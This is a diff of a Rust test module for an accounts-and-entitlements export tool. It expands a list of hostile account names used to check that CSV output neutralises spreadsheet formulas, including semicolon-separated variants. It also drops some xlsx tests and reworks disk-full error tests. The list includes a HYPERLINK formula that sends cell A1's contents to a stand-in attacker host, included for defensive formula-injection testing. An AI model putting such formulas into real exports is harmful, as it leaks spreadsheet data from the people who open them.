@@ -3,7 +3,6 @@
 use std::{
     collections::BTreeMap,
     fs::{self, File},
-    io::Read,
     path::Path,
 };
 
@@ -16,10 +15,11 @@ use serde_json::Value;
 use super::{
     scene::{Scene, text},
     tables::five,
+    workbooks::from_sheet,
 };
 use crate::command_line::harness;
 
-const KINDS: [&str; 5] = [
+pub const KINDS: [&str; 5] = [
     "accounts",
     "resources",
     "entitlements",
@@ -93,34 +93,6 @@ fn from_parquet(folder: &Path, kind: &str) -> Rows {
                 .collect()
         })
         .collect()
-}
-
-/// The XML of a workbook's part.
-fn part(file: &Path, name: &str) -> String {
-    let mut archive = zip::ZipArchive::new(File::open(file).expect("a file")).expect("a workbook");
-    let mut xml = String::new();
-    let mut part = archive.by_name(name).expect(name);
-    part.read_to_string(&mut xml).expect("text");
-    xml
-}
-
-/// Texts of the cells of a sheet, row by row. Empty cells are left out.
-fn from_sheet(file: &Path, sheet: usize) -> Vec<Vec<String>> {
-    let xml = part(file, &format!("xl/worksheets/sheet{sheet}.xml"));
-    let rows = xml.split("<row ").skip(1);
-    rows.map(|row| {
-        let cells = row.split("<c ").skip(1);
-        cells
-            .map(|cell| {
-                let text = cell.split_once("<t").or_else(|| cell.split_once("<v"));
-                let (_, text) = text.expect("a value");
-                let (_, text) = text.split_once('>').expect("a tag");
-                let (text, _) = text.split_once("</").expect("an end");
-                text.replace("&lt;", "<").replace("&amp;", "&")
-            })
-            .collect()
-    })
-    .collect()
 }
 
 #[test]
@@ -221,7 +193,7 @@ fn an_earlier_run_is_exported_as_it_was() {
 }
 
 /// Names that a spreadsheet would take for formulas.
-const HOSTILE: [&str; 7] = [
+pub const HOSTILE: [&str; 11] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
     "+1+1",
     "-2+3",
@@ -229,14 +201,19 @@ const HOSTILE: [&str; 7] = [
     "\t=1+1",
     "\r=1+1",
     "＝1+1",
+    "  =1+1",
+    // Where `;` separates cells.
+    "Ada;=1+1",
+    "Ada; \u{a0}＝1+1",
+    "Ada\";\"=1+1",
 ];
 
-fn hostile() -> Scene {
-    let ids: Vec<String> = (0..HOSTILE.len()).map(|at| format!("P{at}")).collect();
+pub fn hostile() -> Scene {
+    let ids: Vec<String> = (0..HOSTILE.len()).map(|at| format!("P{at:02}")).collect();
     let accounts: Vec<_> = ids
         .iter()
         .zip(HOSTILE)
-        .map(|(id, name)| (id.as_str(), name, "active", None))
+        .map(|(id, name)| (id.as_str(), name, "pending", None))
         .collect();
     let scene = Scene::with(&accounts);
     scene.sql(
@@ -245,7 +222,7 @@ fn hostile() -> Scene {
     );
     scene.grant(
         1,
-        "P0",
+        "P00",
         ("team-membership", "team", "TPAY", "responder"),
         None,
     );
@@ -274,6 +251,10 @@ fn formulas_in_names_become_text_in_csv_unless_programs_ask_for_them() {
             "'\\u{9}=1+1",
             "'\\u{d}=1+1",
             "'＝1+1",
+            "'  =1+1",
+            "Ada;'=1+1",
+            "Ada; \u{a0}'＝1+1",
+            "Ada\";\"'=1+1",
         ]
     );
     let team = |folder: &Path| {
@@ -291,75 +272,26 @@ fn formulas_in_names_become_text_in_csv_unless_programs_ask_for_them() {
         ["report", "inactive"],
     ] {
         let told = scene.told(&[&args[..], &["--format", "csv"]].concat());
-        let mut reader = csv::Reader::from_reader(told.as_bytes());
-        for row in reader.records() {
-            for cell in &row.expect("a row") {
-                assert!(
-                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
-                    "{args:?}: {cell}"
-                );
+        // Whichever of them the reader takes for the end of a cell.
+        for separator in [b',', b';'] {
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(separator)
+                .flexible(true)
+                .from_reader(told.as_bytes());
+            let mut hostile = 0;
+            for row in reader.records() {
+                for cell in &row.expect("a row") {
+                    let begins = cell.trim_start_matches([' ', '\u{a0}', '"']);
+                    assert!(
+                        !begins.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
+                        "{args:?}: {cell}"
+                    );
+                    hostile += usize::from(cell.contains("=1+1"));
+                }
             }
+            assert!(hostile >= 5, "{args:?}: they are in it");
         }
     }
-}
-
-#[test]
-fn formulas_in_names_are_texts_in_a_workbook_and_stay_so() {
-    let scene = hostile();
-    for raw in [&[][..], &["--raw"]] {
-        let file = scene.beside("all.xlsx");
-        let args = ["export", "--format", "xlsx", "--output", text(&file)];
-        scene.told(&[&args[..], raw].concat());
-        let styles = part(&file, "xl/styles.xml");
-        // Bold heads are the first format, texts that stay texts the second.
-        let formats: Vec<&str> = styles
-            .split_once("<cellXfs")
-            .and_then(|(_, rest)| rest.split_once("</cellXfs>"))
-            .map(|(formats, _)| formats.split("<xf ").skip(1).collect())
-            .expect("formats");
-        assert!(formats[2].contains("quotePrefix=\"1\""), "{styles}");
-        let mut stay_texts = 0;
-        for sheet in 1..=KINDS.len() {
-            let xml = part(&file, &format!("xl/worksheets/sheet{sheet}.xml"));
-            assert!(!xml.contains("<f>") && !xml.contains("<f "), "no formula");
-            assert!(!xml.contains("hyperlink"), "no link");
-            let cells = xml.split("<c ").skip(1);
-            stay_texts += cells
-                .filter(|cell| cell.contains("s=\"2\" t=\"inlineStr\""))
-                .count();
-        }
-        // Seven names, and that of the team.
-        assert_eq!(stay_texts, HOSTILE.len() + 1);
-        let names: Vec<String> = from_sheet(&file, 1)
-            .into_iter()
-            .skip(1)
-            .map(|row| row[2].clone())
-            .collect();
-        assert_eq!(names[1..4], HOSTILE[1..4]);
-        if raw.is_empty() {
-            assert_eq!(names[4], "\\u{9}=1+1");
-        }
-    }
-}
-
-#[test]
-fn a_cell_that_a_spreadsheet_can_not_take_is_cut_off_and_said() {
-    let scene = five();
-    scene.sql(
-        "UPDATE resources SET description = ?1 WHERE id = 'TPAY'",
-        &[&"long ".repeat(10_000)],
-    );
-    let file = scene.beside("all.xlsx");
-    let output = scene.run_command(&["export", "--format", "xlsx", "--output", text(&file)]);
-    let said = String::from_utf8_lossy(&output.stderr).into_owned();
-    assert!(output.status.success(), "{said}");
-    assert!(
-        said.contains("notice: 1 cell was cut off at 32,767 characters"),
-        "{said}"
-    );
-    let rows = from_sheet(&file, 2);
-    let team = rows.iter().find(|row| row[0] == "team").expect("a row");
-    assert_eq!(team.last().expect("a cell").len(), 32_767);
 }
 
 /// The process may write so many blocks of 512 bytes to a file, then it gets an
@@ -393,9 +325,11 @@ fn where_there_is_no_room_everything_stays_as_it_was() {
     // More than a buffer of the formats that write in bits.
     scene.batch(
         "WITH RECURSIVE n(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n WHERE n < 2000)
-         INSERT INTO accounts (tenant, id, from_run, email, display_name, status, kind, attributes)
-         SELECT 1, 'X' || n, 1, hex(randomblob(40)), hex(randomblob(40)), 'active', 'user', '{}' FROM n",
+         INSERT INTO grants (tenant, account, entitlement_type, resource_type, resource, entitlement, from_run)
+         SELECT 1, 'PADA', 'team-membership', 'team', hex(randomblob(40)), hex(randomblob(40)), 1 FROM n",
     );
+    // In a folder, one of the first files: with a later one in which there is no
+    // room.
     for (format, output, kept) in [
         ("csv", "csv", "csv/accounts.csv"),
         ("json", "all.json", "all.json"),
@@ -410,10 +344,16 @@ fn where_there_is_no_room_everything_stays_as_it_was() {
         let (code, said) = with_little_room(&scene, 100, &args);
         assert_eq!(code, Some(2), "{format}: {said}");
         assert_eq!(said.lines().count(), 1, "{format}: {said}");
-        assert!(
-            said.contains("can't be written") && said.contains("; hint: "),
-            "{said}"
-        );
+        let (cause, hint) = match format {
+            // What the library said.
+            "xlsx" => (
+                "can't be made: ",
+                "; hint: rows wait in the folder for temporary files, which `TMPDIR` names",
+            ),
+            _ => ("can't be written: ", "; hint: "),
+        };
+        assert!(said.contains(cause) && said.contains(hint), "{said}");
+        assert!(said.contains("File too large"), "{said}");
         assert!(fs::read(&kept).expect("it is there") == before, "{format}");
         // Nothing half-written is left behind.
         let folder = kept.parent().expect("a folder");
